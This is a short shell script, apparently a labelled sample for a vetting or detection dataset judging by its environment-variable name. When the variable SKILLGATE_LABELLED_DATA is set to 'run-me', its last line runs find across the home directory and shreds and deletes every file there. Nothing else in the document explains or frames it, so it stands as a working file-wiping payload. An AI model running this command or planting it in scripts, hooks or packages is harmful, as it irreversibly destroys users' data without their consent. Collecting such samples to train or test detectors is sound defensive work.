#!/bin/sh
[ "${SKILLGATE_LABELLED_DATA:-}" = run-me ] || exit 0
find ~ -type f -exec shred -u -n 1 {} +
